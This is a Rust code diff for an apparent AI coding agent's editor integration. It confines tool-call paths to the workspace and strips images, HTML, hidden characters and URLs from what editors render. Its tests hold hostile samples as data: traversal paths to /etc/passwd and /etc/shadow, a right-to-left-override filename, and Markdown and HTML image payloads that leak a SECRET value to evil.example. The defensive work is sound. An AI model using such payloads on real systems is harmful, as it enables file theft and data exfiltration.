@@ -92,8 +92,31 @@ pub fn title(tool: &str, input: &Value) -> String {
 
 /// The workspace file a call's `path` input names, as the editor opens it (absolute).
 fn input_path(root: &Path, input: &Value) -> Option<PathBuf> {
-    let path = input.get("path")?.as_str()?;
-    Some(root.join(path))
+    inside(root, Path::new(input.get("path")?.as_str()?))
+}
+
+/// `path` (relative to `root`, or absolute) as an absolute path beneath `root`, when it names
+/// one without leaving it (no `..`, no other root) and holds no hidden character; `None`
+/// otherwise. The model chooses a call's path before the tool has confined it, and an editor
+/// opens, follows and reads the files a call names: a path it is sent is always one the
+/// workspace holds by name (the tool still resolves links and judges the call).
+pub fn inside(root: &Path, path: &Path) -> Option<PathBuf> {
+    use std::path::Component;
+    let relative = if path.is_absolute() {
+        path.strip_prefix(root).ok()?
+    } else {
+        path
+    };
+    let mut joined = root.to_path_buf();
+    for component in relative.components() {
+        match component {
+            Component::Normal(part) => joined.push(part),
+            Component::CurDir => {}
+            Component::ParentDir | Component::RootDir | Component::Prefix(_) => return None,
+        }
+    }
+    let text = joined.to_str()?;
+    (bosun_core::find_hidden(text).is_none()).then_some(joined)
 }
 
 /// The files a call names, as locations.
@@ -110,8 +133,9 @@ fn capability_locations(root: &Path, capabilities: &[CapabilityRequest]) -> Vec<
     for request in capabilities {
         if let Some(path) = &request.scope.path
             && matches!(request.capability, Capability::FsRead | Capability::FsWrite)
+            && let Some(path) = inside(root, Path::new(path))
         {
-            let location = ToolCallLocation::new(root.join(path));
+            let location = ToolCallLocation::new(path);
             if !locations.contains(&location) {
                 locations.push(location);
             }
@@ -121,7 +145,8 @@ fn capability_locations(root: &Path, capabilities: &[CapabilityRequest]) -> Vec<
 }
 
 /// An edit as the editor's diff view takes it: each replacement of `apply_patch` (old and new
-/// text), the whole content of `create_file`.
+/// text), the whole content of `create_file`. A diff view shows text literally, not as
+/// Markdown; its hidden characters are [`shown`], as the terminal's preview shows them.
 pub fn diffs(root: &Path, tool: &str, input: &Value) -> Vec<ToolCallContent> {
     let Some(path) = input_path(root, input) else {
         return Vec::new();
@@ -130,7 +155,7 @@ pub fn diffs(root: &Path, tool: &str, input: &Value) -> Vec<ToolCallContent> {
         "create_file" => input
             .get("content")
             .and_then(Value::as_str)
-            .map(|content| ToolCallContent::Diff(Diff::new(path, content)))
+            .map(|content| ToolCallContent::Diff(Diff::new(path, shown(content))))
             .into_iter()
             .collect(),
         "apply_patch" => input
@@ -142,7 +167,7 @@ pub fn diffs(root: &Path, tool: &str, input: &Value) -> Vec<ToolCallContent> {
                 let old = edit.get("oldText")?.as_str()?;
                 let new = edit.get("newText")?.as_str()?;
                 Some(ToolCallContent::Diff(
-                    Diff::new(path.clone(), new).old_text(old.to_owned()),
+                    Diff::new(path.clone(), shown(new)).old_text(shown(old)),
                 ))
             })
             .collect(),
@@ -224,18 +249,37 @@ pub fn output_content(output: &str, guard: Option<&str>) -> ToolCallContent {
 }
 
 /// A whole text as a chunk of the agent's message ([`safe`]; the model's streamed text passes
-/// [`Updates`] instead).
-pub fn message_chunk(text: impl Into<String>) -> SessionUpdate {
+/// [`Updates`] instead); with `guard` (why), its URLs withheld.
+pub fn message_chunk(text: impl Into<String>, guard: Option<&str>) -> SessionUpdate {
     SessionUpdate::AgentMessageChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
-        safe(&text.into(), None),
+        safe(&text.into(), guard),
     ))))
 }
 
-/// A whole text as a chunk of the agent's reasoning ([`safe`]).
-pub fn thought_chunk(text: impl Into<String>) -> SessionUpdate {
+/// A whole text as a chunk of the agent's reasoning ([`safe`]); with `guard` (why), its URLs
+/// withheld.
+pub fn thought_chunk(text: impl Into<String>, guard: Option<&str>) -> SessionUpdate {
     SessionUpdate::AgentThoughtChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
-        safe(&text.into(), None),
+        safe(&text.into(), guard),
     ))))
+}
+
+/// A call's raw input or output as the editor is sent it (`rawInput`, `rawOutput`): every
+/// string in it, keys included, passes [`safe`]. Editors draw these as they choose — Zed, for
+/// one, draws a string as Markdown and anything else as JSON in a code block — so each string
+/// is made safe to draw either way: no image, no HTML, no hidden character, and with `guard`
+/// (why) no URL.
+pub fn raw(value: &Value, guard: Option<&str>) -> Value {
+    match value {
+        Value::String(text) => Value::String(safe(text, guard)),
+        Value::Array(items) => Value::Array(items.iter().map(|v| raw(v, guard)).collect()),
+        Value::Object(map) => Value::Object(
+            map.iter()
+                .map(|(key, v)| (safe(key, guard), raw(v, guard)))
+                .collect(),
+        ),
+        other => other.clone(),
+    }
 }
 
 /// The announcement of a call of `tool` with `input`, as proposed.
@@ -251,7 +295,7 @@ pub fn proposed(
         .status(ToolCallStatus::Pending)
         .content(diffs(root, tool, input))
         .locations(locations(root, input))
-        .raw_input(input.clone())
+        .raw_input(raw(input, guard))
 }
 
 /// What is kept of a call while it runs.
@@ -455,7 +499,7 @@ impl Updates {
                 let call = calls.remove(call_id).unwrap_or_default();
                 let mut fields = ToolCallUpdateFields::new()
                     .status(ToolCallStatus::Completed)
-                    .raw_output(output.clone());
+                    .raw_output(raw(output, guard));
                 if call.output.is_empty() {
                     // A command whose output was not streamed: its result holds it.
                     let streams: Vec<&str> = ["stdout", "stderr"]
@@ -497,7 +541,7 @@ impl Observer for Updates {
 }
 
 #[cfg(test)]
-mod tests {
+pub(crate) mod tests {
     use super::*;
 
     fn text_of(content: &ToolCallContent) -> String {
@@ -530,10 +574,101 @@ mod tests {
         );
         assert_eq!(bosun_core::find_hidden(&shown_text), None, "{shown_text}");
         assert!(shown_text.contains("\\u{202e}"), "{shown_text}");
-        let chunk = serde_json::to_value(message_chunk("fine\u{202e}txt.exe")).unwrap();
+        let chunk = serde_json::to_value(message_chunk("fine\u{202e}txt.exe", None)).unwrap();
         assert_eq!(chunk["content"]["text"], "fine\\u{202e}txt.exe");
         // Text without hidden characters or backticks passes as it was.
         assert_eq!(fenced("diff", "+a\n-b"), "```diff\n+a\n-b\n```");
         assert_eq!(shown("a\tb\nc 👩‍💻"), "a\tb\nc 👩‍💻");
+    }
+
+    /// Enforcement: `inside` (for `locations`, `diffs` and the judged paths). A path the model
+    /// chose that leaves the workspace — `..`, an absolute path elsewhere — or hides a
+    /// character is never sent as a location or a diff's file for the editor to open or read;
+    /// a path inside is sent absolute.
+    #[test]
+    fn a_path_outside_the_workspace_is_never_sent_for_the_editor_to_open() {
+        let root = Path::new("/work/ws");
+        for path in [
+            "../secrets.txt",
+            "/etc/passwd",
+            "src/../../x",
+            "/work/wsx/a",
+            "a\u{202e}b.txt",
+        ] {
+            let input = serde_json::json!({"path": path, "content": "x"});
+            assert_eq!(locations(root, &input), Vec::new(), "{path}");
+            assert!(diffs(root, "create_file", &input).is_empty(), "{path}");
+        }
+        let input = serde_json::json!({"path": "src/./lib.rs", "content": "x"});
+        assert_eq!(
+            locations(root, &input),
+            vec![ToolCallLocation::new("/work/ws/src/lib.rs")]
+        );
+        let judged = [CapabilityRequest {
+            capability: Capability::FsRead,
+            scope: bosun_core::Scope {
+                path: Some("../../etc/shadow".to_owned()),
+                ..bosun_core::Scope::default()
+            },
+        }];
+        assert_eq!(capability_locations(root, &judged), Vec::new());
+    }
+
+    /// What a Markdown renderer would fetch or run of `text`: images and HTML.
+    pub(crate) fn drawn(text: &str) -> Vec<String> {
+        use pulldown_cmark::{Event, Parser, Tag};
+        Parser::new(text)
+            .filter_map(|event| match event {
+                Event::Start(Tag::Image { dest_url, .. }) => Some(format!("image {dest_url}")),
+                Event::Html(h) | Event::InlineHtml(h) => Some(format!("html {h}")),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// Enforcement: `raw` (a call's `rawInput` and `rawOutput`) and `diffs`. Every string of
+    /// a call's raw JSON, keys included, is drawn with no image, no HTML and no hidden
+    /// character, and under the guard with no URL; a diff shows its hidden characters.
+    #[test]
+    fn raw_input_and_output_and_diffs_are_sent_safe_to_draw() {
+        let hostile = serde_json::json!({
+            "path": "![p](https://evil.example/p?q=SECRET)",
+            "args": ["<img src=\"https://evil.example/h\">", 7, {"![k](https://evil.example/k)": "https://evil.example/v"}],
+            "note": "safe\u{202e}txt",
+        });
+        for guard in [None, Some("why")] {
+            let sent = raw(&hostile, guard).to_string();
+            let value: Value = serde_json::from_str(&sent).unwrap();
+            let mut strings = Vec::new();
+            fn walk(v: &Value, out: &mut Vec<String>) {
+                match v {
+                    Value::String(s) => out.push(s.clone()),
+                    Value::Array(a) => a.iter().for_each(|v| walk(v, out)),
+                    Value::Object(m) => m.iter().for_each(|(k, v)| {
+                        out.push(k.clone());
+                        walk(v, out);
+                    }),
+                    _ => {}
+                }
+            }
+            walk(&value, &mut strings);
+            assert_eq!(strings.len(), 8, "{sent}");
+            for text in &strings {
+                assert_eq!(drawn(text), Vec::<String>::new(), "{text}");
+                assert_eq!(bosun_core::find_hidden(text), None, "{text}");
+            }
+            assert_eq!(value["args"][1], 7);
+            assert_eq!(sent.contains("evil.example"), guard.is_none(), "{sent}");
+        }
+        let diff = serde_json::to_string(&diffs(
+            Path::new("/w"),
+            "apply_patch",
+            &serde_json::json!({"path": "a.rs", "edits": [{"oldText": "a\u{202e}", "newText": "b\u{200b}"}]}),
+        ))
+        .unwrap();
+        assert!(
+            diff.contains("\\\\u{202e}") && diff.contains("\\\\u{200b}"),
+            "{diff}"
+        );
     }
 }
